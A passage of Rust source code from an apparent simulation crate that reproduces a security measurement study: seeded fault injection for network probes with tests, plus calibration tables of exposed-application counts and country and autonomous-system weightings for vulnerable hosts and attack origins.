                port: 80,
                kind: ServiceKind::Background(BackgroundKind::NginxDefault),
                schemes: SchemeSupport::HttpOnly,
            }],
        );
        assert!(host.awe().is_none());
        assert!(!host.is_vulnerable_at_deploy());
    }
}
