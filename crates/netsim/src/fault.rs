//! Order-independent, seeded fault injection.
//!
//! A [`FaultPlan`] decides whether the *n*-th probe or connect attempt
//! against a given endpoint suffers a transient fault. The decision is
//! a pure splitmix64 hash over `(seed, ip, port, lane, n)`; the only
//! mutable state is a sharded per-endpoint attempt counter, so *which*
//! attempt faults for an endpoint is independent of how attempts
//! against different endpoints interleave. That property is what keeps
//! fault-injected pipeline runs byte-identical at any parallelism: a
//! concurrent sweep may reorder endpoints freely, but every endpoint
//! still sees the same fault schedule it would have seen alone.
//!
//! [`FaultyTransport`] applies a plan to any [`Transport`] — the
//! simulator uses it internally, and the real-socket CLI wraps
//! `TcpTransport` with it to rehearse flaky-network behaviour on live
//! scans.

use crate::ip::Cidr;
use nokeys_http::{BlockSweepResult, Endpoint, Error, ProbeOutcome, Result, Scheme, Transport};
use parking_lot::Mutex;
use std::collections::HashMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::Arc;

/// Which operation a fault decision applies to. Probe and connect
/// attempts against the same endpoint draw from independent streams.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum FaultLane {
    /// Stage-I SYN probe: an injected fault drops the answer, so the
    /// endpoint reads as [`ProbeOutcome::Filtered`].
    Probe,
    /// Connection establishment: an injected fault times the attempt
    /// out ([`Error::Timeout`]).
    Connect,
}

/// Counts of injected faults, shared across clones of a plan.
#[derive(Debug, Default)]
pub struct FaultStats {
    probe: AtomicU64,
    connect: AtomicU64,
}

impl FaultStats {
    /// Probe attempts answered with an injected drop.
    pub fn probe_injected(&self) -> u64 {
        self.probe.load(Ordering::Relaxed)
    }

    /// Connect attempts answered with an injected timeout.
    pub fn connect_injected(&self) -> u64 {
        self.connect.load(Ordering::Relaxed)
    }

    /// Total injected faults across both lanes.
    pub fn total(&self) -> u64 {
        self.probe_injected() + self.connect_injected()
    }
}

type Observer = Arc<dyn Fn(FaultLane) + Send + Sync>;

const SHARDS: usize = 16;
const DEFAULT_SEED: u64 = 0xfa17_5eed;

/// Deterministic fault schedule over `(endpoint, lane, attempt ordinal)`.
///
/// Clones share the attempt counters and stats, so a transport cloned
/// into many concurrent tasks draws from one coherent schedule.
#[derive(Clone)]
pub struct FaultPlan {
    rate: f64,
    seed: u64,
    counters: Arc<[Mutex<HashMap<(Endpoint, FaultLane), u64>>; SHARDS]>,
    stats: Arc<FaultStats>,
    observer: Option<Observer>,
}

impl std::fmt::Debug for FaultPlan {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("FaultPlan")
            .field("rate", &self.rate)
            .field("seed", &self.seed)
            .field("observer", &self.observer.is_some())
            .finish_non_exhaustive()
    }
}

impl FaultPlan {
    /// A plan that never fires (rate 0).
    pub fn disabled() -> Self {
        Self::new(0.0, DEFAULT_SEED)
    }

    /// A plan firing each attempt with probability `rate`, keyed by
    /// `seed`. Panics unless `rate` is a probability in `0.0..=1.0`.
    pub fn new(rate: f64, seed: u64) -> Self {
        assert!(
            (0.0..=1.0).contains(&rate),
            "fault rate must be a probability in 0.0..=1.0"
        );
        FaultPlan {
            rate,
            seed,
            counters: Arc::new(std::array::from_fn(|_| Mutex::new(HashMap::new()))),
            stats: Arc::new(FaultStats::default()),
            observer: None,
        }
    }

    /// Attach a callback invoked on every injected fault — the repro
    /// harness bridges this into its telemetry registry (`fault.*`
    /// counters) without netsim depending on the scanner crate.
    pub fn with_observer(mut self, observer: impl Fn(FaultLane) + Send + Sync + 'static) -> Self {
        self.observer = Some(Arc::new(observer));
        self
    }

    /// Per-attempt fault probability.
    pub fn rate(&self) -> f64 {
        self.rate
    }

    /// Seed of the fault stream.
    pub fn seed(&self) -> u64 {
        self.seed
    }

    /// Shared injected-fault counts.
    pub fn stats(&self) -> &FaultStats {
        &self.stats
    }

    /// Decide the fate of the next attempt in `lane` against `ep`,
    /// advancing that endpoint's attempt ordinal.
    ///
    /// Deterministic per `(endpoint, lane, ordinal)`: the global order
    /// in which different endpoints call this cannot change any one
    /// endpoint's schedule.
    pub fn fires(&self, lane: FaultLane, ep: Endpoint) -> bool {
        if self.rate <= 0.0 {
            return false;
        }
        let ordinal = {
            let mut shard = self.counters[Self::shard_of(ep)].lock();
            let n = shard.entry((ep, lane)).or_insert(0);
            let ordinal = *n;
            *n += 1;
            ordinal
        };
        let fired = unit_interval(mix(self.seed, ep, lane, ordinal)) < self.rate;
        if fired {
            match lane {
                FaultLane::Probe => self.stats.probe.fetch_add(1, Ordering::Relaxed),
                FaultLane::Connect => self.stats.connect.fetch_add(1, Ordering::Relaxed),
            };
            if let Some(observer) = &self.observer {
                observer(lane);
            }
        }
        fired
    }

    fn shard_of(ep: Endpoint) -> usize {
        (u32::from(ep.ip) as usize ^ ep.port as usize) % SHARDS
    }
}

/// splitmix64 finalizer over the combined fault key.
fn mix(seed: u64, ep: Endpoint, lane: FaultLane, ordinal: u64) -> u64 {
    let lane_tag: u64 = match lane {
        FaultLane::Probe => 0x50,
        FaultLane::Connect => 0x43,
    };
    let mut x = seed
        ^ (u64::from(u32::from(ep.ip)) << 16)
        ^ u64::from(ep.port)
        ^ (lane_tag << 56)
        ^ ordinal.wrapping_mul(0x9e37_79b9_7f4a_7c15);
    x = x.wrapping_add(0x9e37_79b9_7f4a_7c15);
    x ^= x >> 30;
    x = x.wrapping_mul(0xbf58_476d_1ce4_e5b9);
    x ^= x >> 27;
    x = x.wrapping_mul(0x94d0_49bb_1331_11eb);
    x ^= x >> 31;
    x
}

/// Map a hash to `[0, 1)` using the top 53 bits.
fn unit_interval(x: u64) -> f64 {
    (x >> 11) as f64 / (1u64 << 53) as f64
}

/// Wrap any [`Transport`] with an injected-fault schedule.
///
/// Injected probe faults surface as [`ProbeOutcome::Filtered`] (the SYN
/// went unanswered); injected connect faults surface as
/// [`Error::Timeout`]. Everything else delegates to the inner
/// transport. Clones share the plan's attempt counters.
///
/// Probe-lane draws are decided *after* the inner probe answers: a
/// `Closed` outcome (an RST is a definite answer) skips the draw, which
/// keeps the per-endpoint fault schedule identical between dense and
/// sparse sweeps (empty addresses never consume an ordinal). The cost
/// of that invariant is that the inner probe is always issued — when
/// wrapping a live network transport, a fired fault still sends the
/// real SYN and discards its answer, and inner-layer probe counters
/// include faulted probes.
#[derive(Debug, Clone)]
pub struct FaultyTransport<T> {
    inner: T,
    plan: FaultPlan,
}

impl<T> FaultyTransport<T> {
    pub fn new(inner: T, plan: FaultPlan) -> Self {
        FaultyTransport { inner, plan }
    }

    /// The fault schedule applied to this transport.
    pub fn plan(&self) -> &FaultPlan {
        &self.plan
    }

    /// The wrapped transport.
    pub fn inner(&self) -> &T {
        &self.inner
    }
}

impl<T: Transport> Transport for FaultyTransport<T> {
    type Conn = T::Conn;

    async fn probe(&self, ep: Endpoint) -> ProbeOutcome {
        let outcome = self.inner.probe(ep).await;
        if outcome == ProbeOutcome::Closed {
            // An RST is a definite answer — fault lanes only lose
            // answers that were in flight. Skipping the draw keeps the
            // per-endpoint schedule identical whether a block is swept
            // densely or sparsely (empty addresses never draw).
            return outcome;
        }
        if self.plan.fires(FaultLane::Probe, ep) {
            return ProbeOutcome::Filtered;
        }
        outcome
    }

    async fn connect(&self, ep: Endpoint, scheme: Scheme) -> Result<T::Conn> {
        if self.plan.fires(FaultLane::Connect, ep) {
            return Err(Error::Timeout);
        }
        self.inner.connect(ep, scheme).await
    }

    async fn connect_fresh(&self, ep: Endpoint, scheme: Scheme) -> Result<T::Conn> {
        // A stale-retry redial is still a connect: it draws from the
        // same fault lane before reaching the inner transport.
        if self.plan.fires(FaultLane::Connect, ep) {
            return Err(Error::Timeout);
        }
        self.inner.connect_fresh(ep, scheme).await
    }

    fn supports_reuse(&self) -> bool {
        self.inner.supports_reuse()
    }

    async fn sweep_block(&self, block: Cidr, ports: &[u16]) -> BlockSweepResult {
        let mut result = self.inner.sweep_block(block, ports).await;
        // Apply this layer's probe-lane draws to every individually
        // evaluated probe, in sweep order — exactly the draws the dense
        // loop would have made through `probe`. Bulk-closed probes are
        // `Closed`, which draws nothing (see `probe`).
        for (ep, outcome) in &mut result.probed {
            if *outcome != ProbeOutcome::Closed && self.plan.fires(FaultLane::Probe, *ep) {
                *outcome = ProbeOutcome::Filtered;
            }
        }
        result
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::net::Ipv4Addr;

    fn ep(last: u8, port: u16) -> Endpoint {
        Endpoint {
            ip: Ipv4Addr::new(10, 0, 0, last),
            port,
        }
    }

    #[test]
    fn rate_zero_never_fires_and_rate_one_always_fires() {
        let never = FaultPlan::new(0.0, 1);
        let always = FaultPlan::new(1.0, 1);
        for n in 0..64 {
            assert!(!never.fires(FaultLane::Connect, ep(1, 80)), "attempt {n}");
            assert!(always.fires(FaultLane::Connect, ep(1, 80)), "attempt {n}");
        }
        assert_eq!(never.stats().total(), 0);
        assert_eq!(always.stats().connect_injected(), 64);
    }

    #[test]
    fn per_endpoint_schedule_is_independent_of_interleaving() {
        let a = ep(1, 80);
        let b = ep(2, 443);
        let plan1 = FaultPlan::new(0.5, 2022);
        let plan2 = FaultPlan::new(0.5, 2022);

        // Plan 1: all of a's attempts, then all of b's.
        let a1: Vec<bool> = (0..32)
            .map(|_| plan1.fires(FaultLane::Connect, a))
            .collect();
        let b1: Vec<bool> = (0..32)
            .map(|_| plan1.fires(FaultLane::Connect, b))
            .collect();

        // Plan 2: strictly interleaved. The per-endpoint sequences must
        // not change — this is exactly what the old global attempt
        // counter violated.
        let mut a2 = Vec::new();
        let mut b2 = Vec::new();
        for _ in 0..32 {
            b2.push(plan2.fires(FaultLane::Connect, b));
            a2.push(plan2.fires(FaultLane::Connect, a));
        }
        assert_eq!(a1, a2);
        assert_eq!(b1, b2);
    }

    #[test]
    fn lanes_draw_from_independent_streams() {
        let plan = FaultPlan::new(0.5, 7);
        let probe: Vec<bool> = (0..64)
            .map(|_| plan.fires(FaultLane::Probe, ep(9, 8080)))
            .collect();
        let connect: Vec<bool> = (0..64)
            .map(|_| plan.fires(FaultLane::Connect, ep(9, 8080)))
            .collect();
        assert_ne!(probe, connect, "lane tag must decorrelate the streams");
    }

    #[test]
    fn firing_rate_tracks_the_configured_probability() {
        let plan = FaultPlan::new(0.25, 99);
        let mut fired = 0u32;
        for host in 0..64u8 {
            for _ in 0..16 {
                if plan.fires(FaultLane::Connect, ep(host, 80)) {
                    fired += 1;
                }
            }
        }
        // 1024 draws at p=0.25: expect ~256; accept a generous band.
        assert!((160..360).contains(&fired), "fired {fired}/1024");
        assert_eq!(u64::from(fired), plan.stats().connect_injected());
    }

    #[test]
    fn clones_share_one_schedule() {
        let plan = FaultPlan::new(1.0, 3);
        let clone = plan.clone();
        assert!(clone.fires(FaultLane::Probe, ep(1, 80)));
        assert_eq!(plan.stats().probe_injected(), 1);
    }

    #[test]
    fn observer_sees_every_injected_fault() {
        let seen = Arc::new(AtomicU64::new(0));
        let seen2 = Arc::clone(&seen);
        let plan = FaultPlan::new(1.0, 5).with_observer(move |_| {
            seen2.fetch_add(1, Ordering::Relaxed);
        });
        for _ in 0..10 {
            plan.fires(FaultLane::Connect, ep(4, 22));
        }
        assert_eq!(seen.load(Ordering::Relaxed), 10);
    }
}
