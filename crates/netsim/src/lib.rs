//! Deterministic simulated IPv4 Internet for the *No Keys to the Kingdom*
//! reproduction.
//!
//! The paper's substrate is the live IPv4 address space; this crate
//! provides the synthetic equivalent: a seeded population of hosts running
//! the application models from `nokeys-apps` plus realistic background
//! noise, reachable through an in-memory implementation of the
//! `nokeys-http` [`Transport`](nokeys_http::Transport) abstraction, with a
//! virtual clock driving host lifecycle (fixes, shutdowns, updates) for
//! the four-week longevity study.
//!
//! Everything is deterministic given `UniverseConfig::seed`.

pub mod calibration;
pub mod clock;
pub mod events;
pub mod fault;
pub mod geo;
pub mod host;
pub mod ip;
pub mod killswitch;
pub mod lifecycle;
pub mod observer_clock;
pub mod transport;
pub mod universe;
pub mod vhost;

pub use clock::{SimDuration, SimTime};
pub use events::EventQueue;
pub use fault::{FaultLane, FaultPlan, FaultStats, FaultyTransport};
pub use geo::{AsInfo, CountryCode, GeoDb, GeoRecord};
pub use host::{Host, SchemeSupport, Service, ServiceKind};
pub use ip::{Cidr, ReservedRanges};
pub use killswitch::{KillSwitch, KillableTransport};
pub use lifecycle::LifecyclePlan;
pub use transport::SimTransport;
pub use universe::{Universe, UniverseConfig};
pub use vhost::{CtEntry, VhostState, VirtualHost};
