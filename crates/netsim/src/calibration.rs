//! Calibration constants from the paper's measurement tables.
//!
//! The synthetic universe is generated so that (scaled) population counts
//! match Tables 2 and 3; the analysis crate compares regenerated results
//! against these same constants in `EXPERIMENTS.md`.

use nokeys_apps::AppId;

/// One row of Table 2: open ports and HTTP(S) responses.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PortPopulation {
    pub port: u16,
    /// Hosts with this port open.
    pub open: u64,
    /// ... of which spoke HTTP.
    pub http: u64,
    /// ... of which spoke HTTPS.
    pub https: u64,
}

/// Table 2 of the paper.
pub const PORT_POPULATIONS: [PortPopulation; 12] = [
    PortPopulation {
        port: 80,
        open: 56_800_000,
        http: 51_300_000,
        https: 0,
    },
    PortPopulation {
        port: 443,
        open: 50_100_000,
        http: 0,
        https: 35_900_000,
    },
    PortPopulation {
        port: 2375,
        open: 120_000,
        http: 11_000,
        https: 2_000,
    },
    PortPopulation {
        port: 4646,
        open: 180_000,
        http: 24_000,
        https: 4_000,
    },
    PortPopulation {
        port: 6443,
        open: 553_000,
        http: 304_000,
        https: 322_000,
    },
    PortPopulation {
        port: 8000,
        open: 5_500_000,
        http: 1_600_000,
        https: 293_000,
    },
    PortPopulation {
        port: 8080,
        open: 9_000_000,
        http: 7_600_000,
        https: 667_000,
    },
    PortPopulation {
        port: 8088,
        open: 2_600_000,
        http: 857_000,
        https: 943_000,
    },
    PortPopulation {
        port: 8153,
        open: 291_000,
        http: 171_000,
        https: 3_000,
    },
    PortPopulation {
        port: 8192,
        open: 331_000,
        http: 175_000,
        https: 7_000,
    },
    PortPopulation {
        port: 8500,
        open: 384_000,
        http: 62_000,
        https: 107_000,
    },
    PortPopulation {
        port: 8888,
        open: 2_400_000,
        http: 1_800_000,
        https: 192_000,
    },
];

/// One row of Table 3: per-application prevalence and MAVs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AppPopulation {
    pub app: AppId,
    /// Hosts running the application ("# Hosts").
    pub hosts: u64,
    /// ... of which carried a MAV ("# MAVs").
    pub mavs: u64,
}

/// Table 3 of the paper (18 in-scope applications, paper order).
pub const APP_POPULATIONS: [AppPopulation; 18] = [
    AppPopulation {
        app: AppId::Jenkins,
        hosts: 2_440,
        mavs: 80,
    },
    AppPopulation {
        app: AppId::Gocd,
        hosts: 587,
        mavs: 36,
    },
    AppPopulation {
        app: AppId::WordPress,
        hosts: 1_462_625,
        mavs: 345,
    },
    AppPopulation {
        app: AppId::Grav,
        hosts: 2_617,
        mavs: 4,
    },
    AppPopulation {
        app: AppId::Joomla,
        hosts: 50_274,
        mavs: 16,
    },
    AppPopulation {
        app: AppId::Drupal,
        hosts: 65_414,
        mavs: 258,
    },
    AppPopulation {
        app: AppId::Kubernetes,
        hosts: 706_235,
        mavs: 495,
    },
    AppPopulation {
        app: AppId::Docker,
        hosts: 893,
        mavs: 657,
    },
    AppPopulation {
        app: AppId::Consul,
        hosts: 9_447,
        mavs: 190,
    },
    AppPopulation {
        app: AppId::Hadoop,
        hosts: 923,
        mavs: 556,
    },
    AppPopulation {
        app: AppId::Nomad,
        hosts: 1_231,
        mavs: 729,
    },
    AppPopulation {
        app: AppId::JupyterLab,
        hosts: 1_369,
        mavs: 53,
    },
    AppPopulation {
        app: AppId::JupyterNotebook,
        hosts: 9_549,
        mavs: 313,
    },
    AppPopulation {
        app: AppId::Zeppelin,
        hosts: 1_033,
        mavs: 82,
    },
    AppPopulation {
        app: AppId::Polynote,
        hosts: 8,
        mavs: 8,
    },
    AppPopulation {
        app: AppId::Ajenti,
        hosts: 1_292,
        mavs: 0,
    },
    AppPopulation {
        app: AppId::PhpMyAdmin,
        hosts: 184_968,
        mavs: 396,
    },
    AppPopulation {
        app: AppId::Adminer,
        hosts: 6_621,
        mavs: 3,
    },
];

/// Paper total: hosts running an in-scope AWE.
pub const TOTAL_AWE_HOSTS: u64 = 2_507_526;
/// Paper total: hosts with a MAV.
pub const TOTAL_MAVS: u64 = 4_221;

/// Look up the Table 3 row of `app`.
pub fn app_population(app: AppId) -> Option<&'static AppPopulation> {
    APP_POPULATIONS.iter().find(|p| p.app == app)
}

/// Docker's MAV count exceeds... no — every app's MAV count must be at
/// most its host count; verified by test below.
#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn totals_match_paper() {
        let hosts: u64 = APP_POPULATIONS.iter().map(|p| p.hosts).sum();
        let mavs: u64 = APP_POPULATIONS.iter().map(|p| p.mavs).sum();
        assert_eq!(hosts, TOTAL_AWE_HOSTS);
        assert_eq!(mavs, TOTAL_MAVS);
    }

    #[test]
    fn mavs_never_exceed_hosts() {
        for p in &APP_POPULATIONS {
            assert!(p.mavs <= p.hosts, "{:?}", p.app);
        }
    }

    #[test]
    fn all_in_scope_apps_present_exactly_once() {
        let mut ids: Vec<_> = APP_POPULATIONS.iter().map(|p| p.app).collect();
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), 18);
        for app in AppId::in_scope() {
            assert!(app_population(app).is_some(), "{app} missing");
        }
    }

    #[test]
    fn port_rows_are_consistent() {
        for p in &PORT_POPULATIONS {
            assert!(p.http + p.https <= p.open + p.open, "{}", p.port);
            assert!(p.http <= p.open && p.https <= p.open, "{}", p.port);
        }
        // Ports 80/443 carry ~two thirds of all open ports.
        let total: u64 = PORT_POPULATIONS.iter().map(|p| p.open).sum();
        let web: u64 = PORT_POPULATIONS
            .iter()
            .filter(|p| p.port == 80 || p.port == 443)
            .map(|p| p.open)
            .sum();
        assert!(web * 3 > total * 2 - total / 10, "web={web} total={total}");
    }

    #[test]
    fn polynote_is_100_percent_vulnerable() {
        let p = app_population(AppId::Polynote).unwrap();
        assert_eq!(p.hosts, p.mavs);
    }
}
