//! Country / autonomous-system metadata (the simulation's analog of the
//! paper's "IP meta data service").

use serde::Serialize;
use std::collections::HashMap;
use std::net::Ipv4Addr;

/// ISO-ish country label.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
pub struct CountryCode(pub &'static str);

impl std::fmt::Display for CountryCode {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.0)
    }
}

/// An autonomous system.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize)]
pub struct AsInfo {
    /// AS number, e.g. 16509.
    pub asn: u32,
    /// Operator name, e.g. "Amazon EC2".
    pub name: &'static str,
    /// Whether this AS is a dedicated hosting provider (the paper found
    /// ~64% of vulnerable hosts in hosting networks).
    pub hosting: bool,
}

/// Geo/AS record of one address.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
pub struct GeoRecord {
    pub country: CountryCode,
    pub asys: AsInfo,
}

/// Weighted (country, AS, weight) rows for *vulnerable host* placement,
/// shaped after Table 4 (top countries: US, CN, DE, SG, FR; top ASes:
/// Amazon EC2, Alibaba, Amazon AES, DigitalOcean, Google Cloud) plus a
/// long tail.
pub const HOSTING_MIX: &[(CountryCode, AsInfo, u32)] = &[
    (
        CountryCode("United States"),
        AsInfo {
            asn: 16509,
            name: "Amazon EC2",
            hosting: true,
        },
        913,
    ),
    (
        CountryCode("China"),
        AsInfo {
            asn: 37963,
            name: "Alibaba",
            hosting: true,
        },
        542,
    ),
    (
        CountryCode("United States"),
        AsInfo {
            asn: 14618,
            name: "Amazon AES",
            hosting: true,
        },
        329,
    ),
    (
        CountryCode("Singapore"),
        AsInfo {
            asn: 14061,
            name: "DigitalOcean",
            hosting: true,
        },
        97,
    ),
    (
        CountryCode("United States"),
        AsInfo {
            asn: 14061,
            name: "DigitalOcean",
            hosting: true,
        },
        147,
    ),
    (
        CountryCode("United States"),
        AsInfo {
            asn: 396982,
            name: "Google Cloud",
            hosting: true,
        },
        221,
    ),
    (
        CountryCode("United States"),
        AsInfo {
            asn: 7922,
            name: "Comcast",
            hosting: false,
        },
        180,
    ),
    (
        CountryCode("United States"),
        AsInfo {
            asn: 20115,
            name: "Charter",
            hosting: false,
        },
        160,
    ),
    (
        CountryCode("United States"),
        AsInfo {
            asn: 7018,
            name: "AT&T",
            hosting: false,
        },
        154,
    ),
    (
        CountryCode("China"),
        AsInfo {
            asn: 4134,
            name: "Chinanet",
            hosting: false,
        },
        160,
    ),
    (
        CountryCode("China"),
        AsInfo {
            asn: 4837,
            name: "China Unicom",
            hosting: false,
        },
        150,
    ),
    (
        CountryCode("China"),
        AsInfo {
            asn: 4812,
            name: "China Telecom",
            hosting: false,
        },
        148,
    ),
    (
        CountryCode("Germany"),
        AsInfo {
            asn: 24940,
            name: "Hetzner",
            hosting: true,
        },
        120,
    ),
    (
        CountryCode("Germany"),
        AsInfo {
            asn: 3320,
            name: "Deutsche Telekom",
            hosting: false,
        },
        52,
    ),
    (
        CountryCode("France"),
        AsInfo {
            asn: 16276,
            name: "OVH",
            hosting: true,
        },
        96,
    ),
    (
        CountryCode("United Kingdom"),
        AsInfo {
            asn: 20473,
            name: "Vultr",
            hosting: true,
        },
        80,
    ),
    (
        CountryCode("Japan"),
        AsInfo {
            asn: 2516,
            name: "KDDI",
            hosting: false,
        },
        70,
    ),
    (
        CountryCode("Netherlands"),
        AsInfo {
            asn: 60781,
            name: "LeaseWeb",
            hosting: true,
        },
        65,
    ),
    (
        CountryCode("India"),
        AsInfo {
            asn: 9829,
            name: "BSNL",
            hosting: false,
        },
        60,
    ),
    (
        CountryCode("Brazil"),
        AsInfo {
            asn: 28573,
            name: "Claro",
            hosting: false,
        },
        55,
    ),
    (
        CountryCode("South Korea"),
        AsInfo {
            asn: 4766,
            name: "Korea Telecom",
            hosting: false,
        },
        50,
    ),
    (
        CountryCode("Russia"),
        AsInfo {
            asn: 12389,
            name: "Rostelecom",
            hosting: false,
        },
        45,
    ),
    (
        CountryCode("Canada"),
        AsInfo {
            asn: 577,
            name: "Bell Canada",
            hosting: false,
        },
        40,
    ),
    (
        CountryCode("Australia"),
        AsInfo {
            asn: 13335,
            name: "Cloudflare",
            hosting: true,
        },
        35,
    ),
];

/// Attack-origin quotas, calibrated so that assigning the study's 2,195
/// attacks to these rows reproduces Tables 7 and 8 exactly:
/// top countries NL 496, BR 398, US 359, RU 192, SG 168, MD 136, UK 71,
/// PL 69, IN 52, CH 51 (= 1,992), plus 203 attacks from other countries;
/// top ASes Serverion 469 (2 countries), Gamers Club 396 (2),
/// DigitalOcean 351 (here 2 of the paper's 14 countries), Alexhost 135,
/// Amazon EC2 78. Weights sum to 2,195 — the study's total attack count.
pub const ATTACKER_MIX: &[(CountryCode, AsInfo, u32)] = &[
    (
        CountryCode("Netherlands"),
        AsInfo {
            asn: 211252,
            name: "Serverion BV",
            hosting: true,
        },
        449,
    ),
    (
        CountryCode("Germany"),
        AsInfo {
            asn: 211252,
            name: "Serverion BV",
            hosting: true,
        },
        20,
    ),
    (
        CountryCode("Brazil"),
        AsInfo {
            asn: 268624,
            name: "Gamers Club",
            hosting: true,
        },
        380,
    ),
    (
        CountryCode("Portugal"),
        AsInfo {
            asn: 268624,
            name: "Gamers Club",
            hosting: true,
        },
        16,
    ),
    (
        CountryCode("United States"),
        AsInfo {
            asn: 14061,
            name: "DigitalOcean",
            hosting: true,
        },
        230,
    ),
    (
        CountryCode("Singapore"),
        AsInfo {
            asn: 14061,
            name: "DigitalOcean",
            hosting: true,
        },
        121,
    ),
    (
        CountryCode("Singapore"),
        AsInfo {
            asn: 17547,
            name: "M1 Net",
            hosting: true,
        },
        47,
    ),
    (
        CountryCode("Moldova"),
        AsInfo {
            asn: 200019,
            name: "Alexhost",
            hosting: true,
        },
        135,
    ),
    (
        CountryCode("Moldova"),
        AsInfo {
            asn: 39798,
            name: "MivoCloud",
            hosting: true,
        },
        1,
    ),
    (
        CountryCode("United States"),
        AsInfo {
            asn: 16509,
            name: "Amazon EC2",
            hosting: true,
        },
        78,
    ),
    (
        CountryCode("Russia"),
        AsInfo {
            asn: 12389,
            name: "Rostelecom",
            hosting: false,
        },
        70,
    ),
    (
        CountryCode("Russia"),
        AsInfo {
            asn: 49505,
            name: "Selectel",
            hosting: true,
        },
        65,
    ),
    (
        CountryCode("Russia"),
        AsInfo {
            asn: 8359,
            name: "MTS",
            hosting: false,
        },
        57,
    ),
    (
        CountryCode("United Kingdom"),
        AsInfo {
            asn: 20473,
            name: "Vultr",
            hosting: true,
        },
        60,
    ),
    (
        CountryCode("United Kingdom"),
        AsInfo {
            asn: 9009,
            name: "M247",
            hosting: true,
        },
        11,
    ),
    (
        CountryCode("Poland"),
        AsInfo {
            asn: 57367,
            name: "Artnet",
            hosting: true,
        },
        69,
    ),
    (
        CountryCode("India"),
        AsInfo {
            asn: 9829,
            name: "BSNL",
            hosting: false,
        },
        52,
    ),
    (
        CountryCode("Switzerland"),
        AsInfo {
            asn: 51852,
            name: "Private Layer",
            hosting: true,
        },
        51,
    ),
    (
        CountryCode("United States"),
        AsInfo {
            asn: 7922,
            name: "Comcast",
            hosting: false,
        },
        51,
    ),
    (
        CountryCode("Netherlands"),
        AsInfo {
            asn: 60781,
            name: "LeaseWeb",
            hosting: true,
        },
        27,
    ),
    (
        CountryCode("Netherlands"),
        AsInfo {
            asn: 49981,
            name: "WorldStream",
            hosting: true,
        },
        20,
    ),
    (
        CountryCode("Brazil"),
        AsInfo {
            asn: 28573,
            name: "Claro",
            hosting: false,
        },
        18,
    ),
    (
        CountryCode("China"),
        AsInfo {
            asn: 4134,
            name: "Chinanet",
            hosting: false,
        },
        25,
    ),
    (
        CountryCode("France"),
        AsInfo {
            asn: 16276,
            name: "OVH",
            hosting: true,
        },
        22,
    ),
    (
        CountryCode("Vietnam"),
        AsInfo {
            asn: 45899,
            name: "VNPT",
            hosting: false,
        },
        15,
    ),
    (
        CountryCode("Ukraine"),
        AsInfo {
            asn: 13188,
            name: "Triolan",
            hosting: false,
        },
        30,
    ),
    (
        CountryCode("Japan"),
        AsInfo {
            asn: 2516,
            name: "KDDI",
            hosting: false,
        },
        25,
    ),
    (
        CountryCode("Canada"),
        AsInfo {
            asn: 852,
            name: "Telus",
            hosting: false,
        },
        20,
    ),
    (
        CountryCode("Italy"),
        AsInfo {
            asn: 12874,
            name: "Fastweb",
            hosting: false,
        },
        15,
    ),
    (
        CountryCode("Spain"),
        AsInfo {
            asn: 12479,
            name: "Orange ES",
            hosting: false,
        },
        15,
    ),
];

/// Pick a row from a weighted mix given a uniform draw in `0..total`.
pub fn pick_weighted(mix: &[(CountryCode, AsInfo, u32)], draw: u32) -> (CountryCode, AsInfo) {
    let total: u32 = mix.iter().map(|(_, _, w)| *w).sum();
    let mut x = draw % total;
    for (c, a, w) in mix {
        if x < *w {
            return (*c, *a);
        }
        x -= w;
    }
    unreachable!("draw is reduced modulo the total weight")
}

/// Total weight of a mix (for sampling).
pub fn mix_total(mix: &[(CountryCode, AsInfo, u32)]) -> u32 {
    mix.iter().map(|(_, _, w)| *w).sum()
}

/// The simulation's IP metadata service: a populated map from address to
/// record, filled in during universe generation.
#[derive(Debug, Default, Clone)]
pub struct GeoDb {
    records: HashMap<Ipv4Addr, GeoRecord>,
}

impl GeoDb {
    pub fn new() -> Self {
        Self::default()
    }

    /// Register the record for `ip` (last write wins).
    pub fn insert(&mut self, ip: Ipv4Addr, record: GeoRecord) {
        self.records.insert(ip, record);
    }

    /// Look up `ip`.
    pub fn lookup(&self, ip: Ipv4Addr) -> Option<GeoRecord> {
        self.records.get(&ip).copied()
    }

    /// Number of known addresses.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn weighted_pick_is_exhaustive_and_proportional() {
        let total = mix_total(HOSTING_MIX);
        let mut counts: HashMap<&str, u32> = HashMap::new();
        for draw in 0..total {
            let (c, _) = pick_weighted(HOSTING_MIX, draw);
            *counts.entry(c.0).or_default() += 1;
        }
        // Enumerating every draw reproduces the exact weights.
        assert_eq!(counts["United States"], 913 + 329 + 147 + 221 + 494);
        assert_eq!(counts["Canada"], 40);
        assert_eq!(counts["China"], 542 + 458);
    }

    #[test]
    fn us_dominates_hosting_mix_matching_table4() {
        let mut by_country: HashMap<&str, u32> = HashMap::new();
        for (c, _, w) in HOSTING_MIX {
            *by_country.entry(c.0).or_default() += w;
        }
        let us = by_country["United States"];
        let cn = by_country["China"];
        assert!(us > cn, "US should host the most vulnerable instances");
        assert!(cn > by_country["Germany"]);
    }

    #[test]
    fn serverion_tops_attacker_mix_matching_table8() {
        let mut by_as: HashMap<&str, u32> = HashMap::new();
        for (_, a, w) in ATTACKER_MIX {
            *by_as.entry(a.name).or_default() += w;
        }
        assert!(by_as["Serverion BV"] > by_as["Gamers Club"]);
        assert!(by_as["Gamers Club"] > by_as["DigitalOcean"]);
    }

    #[test]
    fn geodb_round_trip() {
        let mut db = GeoDb::new();
        let ip = Ipv4Addr::new(20, 0, 0, 1);
        let rec = GeoRecord {
            country: CountryCode("United States"),
            asys: AsInfo {
                asn: 16509,
                name: "Amazon EC2",
                hosting: true,
            },
        };
